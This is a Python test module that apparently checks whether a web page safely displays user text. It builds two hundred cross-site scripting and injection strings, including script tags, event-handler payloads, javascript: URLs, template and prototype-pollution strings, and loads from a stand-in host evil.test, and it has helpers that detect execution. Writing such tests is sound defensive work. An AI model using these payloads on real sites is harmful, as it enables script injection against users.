"""Two hundred texts that try to inject code into the page that shows them.

If one of them runs, it sets `window.pwned`, opens a dialog, changes the title, or requests an address.
"""

RUN = "window.pwned=1"
FAR = "https://evil.test/x"

ELEMENTS = (
    f'<img src=x onerror="{RUN}">',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<script>{RUN}</script>",
    f'<script src="{FAR}"></script>',
    f'<iframe src="{FAR}"></iframe>',
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    f'<object data="{FAR}"></object>',
    f'<embed src="{FAR}">',
    f'<link rel=stylesheet href="{FAR}">',
    f'<meta http-equiv=refresh content="0;url={FAR}">',
    f'<base href="{FAR}">',
    f'<a href="javascript:{RUN}" autofocus onfocus={RUN}>x</a>',
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<style>@import '{FAR}'; body {{ background: url({FAR}) }}</style>",
    f'<div style="background:url({FAR})">x</div>',
    f'<form action="{FAR}"><button autofocus>x</button></form>',
    f"<math><mi//xlink:href='data:x,<script>{RUN}</script>'>",
    "<script>alert(1)</script>",
    "<img src=x onerror=confirm(1)>",
    "<body onload=prompt(1)>",
    "<script>document.title='pwned'</script>",
    f'<img srcset="{FAR} 2x">',
)
AROUND = (
    "{}",
    "</script>{}",
    "</title></style></textarea></noscript>{}",
    '">{}',
    "'-->]]>{}<!--",
    "the ladder fell {} on him",
    "&lt;b&gt;{}&amp;",
)
OTHERS = (
    "<!-- <script> {{SCRIPT}} {{DATA}} {{BATCH}} &lt;b&gt; ${x}",
    "long " * 4000,
    "\u202eright to left override\u202c and \u200fmarks\u200e",
    "שלום עולם, הסולם נפל",
    "👩‍👩‍👧 the ladder 😀 fell 🪜",
    "a\r\nb\tc\u2028d\x00e",
    "\ufeff\u200b\u2060\u00ad",
    "<\0script>window.pwned=1</script>",
    "＜script＞window.pwned=1＜/script＞",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    "javascript:window.pwned=1//",
    "data:text/html,<script>opener.pwned=1</script>",
    "{{constructor.constructor('window.pwned=1')()}}",
    "${window.pwned=1}`${window.pwned=1}`",
    '"};window.pwned=1;//',
    "'};window.pwned=1;/*",
    "__proto__",
    "constructor",
    '=HYPERLINK("https://evil.test/x")',
    "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "<SCRIPT>window.pwned=1</SCRIPT >",
    "e\u0301\u0301" * 400,
    "a" * 3000,
    "\U000e0041\U000e0042 tags \U0010ffff",
)
HOSTILE = tuple(f"{around.format(element)}" for around in AROUND for element in ELEMENTS) + OTHERS
assert len(HOSTILE) == len(set(HOSTILE)) == 200


def watch(page) -> list[str]:
    """Collects the dialogs of a page; each is turned away."""
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    return dialogs


def is_quiet(page, title: str) -> bool:
    """Whether nothing of a hostile text ran or became an element."""
    made = page.evaluate(
        "document.querySelectorAll('img, iframe, object, embed, base, link, video, math, form[action]').length"
    )
    return page.evaluate("window.pwned") is None and page.title() == title and made == 0
